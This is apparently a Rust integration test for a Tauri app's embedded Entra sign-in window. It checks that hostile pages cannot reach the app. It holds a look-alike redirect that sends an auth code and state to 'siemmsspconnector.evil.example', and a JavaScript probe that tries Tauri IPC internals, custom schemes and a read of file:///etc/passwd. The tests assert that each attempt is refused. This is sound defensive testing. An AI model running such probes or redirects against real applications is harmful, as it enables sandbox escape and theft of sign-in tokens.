//! The embedded sign-in window, in the real app: registrations with an address that no browser can bring back. No driver
//! reaches into that window, so the pages themselves play the person and look around.

use std::path::Path;

use serde_json::Value;
use tests::binaries;
use tests::front::{COOKIE, Front};
use tests::lacking::lacking;
use tests::practice::Practice;
use tests::window::Window;
use tests::wizard::{Details, Step, open_on, secret, walk};
use thirtyfour::prelude::*;

use crate::window::screen_is_there;

const REDIRECT: &str = "https://SiemMsspConnector";

/// Looks for every way from a page to the shell, and says what it finds.
const LOOK_AROUND: &str = "
    const outcome = async (work) => { try { return String(await work()); } catch (error) { return 'refused: ' + error; } };
    const invoke = (command) => outcome(() => window.__TAURI_INTERNALS__.invoke(command, {}));
    const message = () => window.webkit.messageHandlers.ipc.postMessage('x');
    await report({
        internals: typeof window.__TAURI_INTERNALS__, ipc: typeof window.ipc, tauri: typeof window.isTauri,
        frozen: Object.isFrozen(Object.prototype),
        commands: [await invoke('customers'), await invoke('bootstrap'), await invoke('plugin:event|listen'),
            await invoke('plugin:window|close'), await invoke('plugin:webview|get_all_webviews')],
        message: await outcome(message),
        scheme: await outcome(async () => (await fetch('ipc://localhost/customers', { method: 'POST', body: '{}' })).text()),
        content: await outcome(async () => (await fetch('tauri://localhost/index.html')).text()),
        file: await outcome(async () => (await fetch('file:///etc/passwd')).text()),
        storage: localStorage.getItem('attempt'), cookie: document.cookie,
    });
    localStorage.setItem('attempt', 'was here');
";

/// Steps 0 and 1 for an app that is registered with the address of the old script.
async fn register(window: &mut Window, practice: &Practice) {
    let told = &practice.announcement;
    walk(window, &Details::new(told, Path::new("")), Step::Destination, Step::Register).await;
    window.fill("client-id", &told.client_id).await;
    window.fill("home-tenant", &told.provider_tenant).await;
    window.see("other-redirect").await;
    window
        .driver
        .find(By::Css("[data-testid='other-redirect'] summary"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    // What Entra would not take is refused at the field.
    window.fill("own-redirect", "http://SiemMsspConnector").await;
    window.fill("secret", &secret(told)).await;
    window.click("primary").await;
    window.see("own-redirect-error").await;
    window.fill("own-redirect", REDIRECT).await;
    window.fill("secret", &secret(told)).await;
    window.click("primary").await;
    window.see("register-proven").await;
    window.click("primary").await;
    window.screen("consent").await;
}

#[tokio::test]
async fn an_https_registration_consents_in_the_embedded_window_and_no_attempt_knows_of_another() {
    if !screen_is_there("an_https_registration_consents_in_the_embedded_window") {
        return;
    }
    let practice = Practice::start(&[]).await;
    let folder = tempfile::tempdir().unwrap();
    let look_alike = "const state = new URLSearchParams(location.search).get('state'); \
                      location.href = 'https://siemmsspconnector.evil.example/?code=x&state=' + state;";
    let front = Front::start(&practice.announcement, folder.path(), look_alike).await;
    let cloud_file = front.cloud_file.display().to_string();
    let variables = [("MSSP_ONBOARD_CLOUD_FILE", cloud_file)];
    let mut window =
        open_on(&practice.announcement, &folder.path().join("data"), "sign-in-window", &variables).await;
    register(&mut window, &practice).await;
    window.picture("compatibility").await;

    // An address that only looks like the redirect's is a page like any other: nothing is taken from it.
    window.click("consent-window").await;
    window.see("problem").await;
    assert!(window.text().await.contains("siemmsspconnector.evil.example"), "{}", window.text().await);
    window.picture("look-alike").await;

    // A person who closes the window has cancelled, and nothing failed. Its title says whose page it was.
    front.script("");
    window.click("primary").await;
    window.see("countdown").await;
    if let Some(title) = close_window("http://localhost:").await {
        assert!(title.ends_with("MSSP Onboard"), "{title}");
    } else {
        window.click("cancel").await;
    }
    window.see("consent-window").await;
    assert!(!window.has("problem").await, "{}", window.text().await);

    // What leads elsewhere, or back without the right state, is told, and the sign-in goes on.
    front.script("if (first) { location.href = 'http://plain.example/'; }");
    window.click("primary").await;
    window.see("notice-page-turned-away").await;
    front.script("if (first) { location.href = 'https://siemmsspconnector/?code=x&state=guess'; }");
    window.click("open-again").await;
    window.see("notice-not-an-answer").await;
    window.picture("not-an-answer").await;
    assert!(window.has("waiting").await);

    front.script(&format!("if (first) {{ {LOOK_AROUND} }} person();"));
    window.click("open-again").await;
    window.see("consent-account").await;
    window.picture("consent-done").await;
    let first_attempt = front.visits();
    assert!(
        first_attempt
            .iter()
            .any(|visit| visit.cookie.as_deref().is_some_and(|cookie| cookie.contains(COOKIE))),
        "within an attempt there are cookies: {first_attempt:?}"
    );
    window.click("consent-anew").await;
    window.click("primary").await;
    window.see("consent-account").await;
    window.close().await;

    for visit in front.visits().iter().filter(|visit| visit.what.ends_with("/authorize")) {
        assert_eq!(visit.cookie, None, "an attempt begins without the cookies of the one before");
    }
    assert!(front.visits().iter().filter(|visit| visit.what.ends_with("/authorize")).count() >= 5);
    let reports = front.reports();
    assert_eq!(reports.len(), 2, "both attempts looked around");
    for report in reports {
        assert_nothing_is_in_reach(&report);
    }
}

/// Closes the window of that title as a person does, and answers with the whole title.
async fn close_window(title: &str) -> Option<String> {
    let Some(python) = binaries::python() else {
        lacking("python, to close a window (`cargo xtask test` sets MSSP_PYTHON)");
        return None;
    };
    let script = binaries::root().join("tests/python/close_window.py");
    let output = tokio::process::Command::new(python).arg(script).arg(title).output().await.unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    Some(String::from_utf8(output.stdout).unwrap().trim().to_owned())
}

#[track_caller]
fn assert_nothing_is_in_reach(report: &Value) {
    for absent in ["internals", "ipc", "tauri"] {
        assert_eq!(report[absent], "undefined", "{absent}: {report}");
    }
    assert_eq!(report["frozen"], false, "sign-in pages need their prototypes: {report}");
    for refused in report["commands"].as_array().unwrap() {
        assert!(refused.as_str().unwrap().starts_with("refused"), "{report}");
    }
    for refused in ["message", "scheme", "content", "file"] {
        assert!(report[refused].as_str().unwrap().starts_with("refused"), "{refused}: {report}");
    }
    assert_eq!(report["storage"], Value::Null, "nothing is left of the attempt before: {report}");
    assert!(report["cookie"].as_str().unwrap().matches(COOKIE).count() <= 1, "{report}");
}

#[tokio::test]
async fn a_certificate_that_only_the_cloud_file_vouches_for_is_said_and_not_waved_through() {
    if !screen_is_there("a_certificate_that_only_the_cloud_file_vouches_for") {
        return;
    }
    let practice = Practice::start(&["--tls"]).await;
    let folder = tempfile::tempdir().unwrap();
    let mut window =
        open_on(&practice.announcement, &folder.path().join("data"), "sign-in-window-tls", &[]).await;
    register(&mut window, &practice).await;
    window.click("consent-window").await;
    let card = window.see("problem").await;
    assert_eq!(card.attr("data-code").await.unwrap().as_deref(), Some("tls-refused"));
    window.picture("untrusted").await;
    // The way round is offered right there.
    window.see("consent-paste").await;
    window.close().await;
}
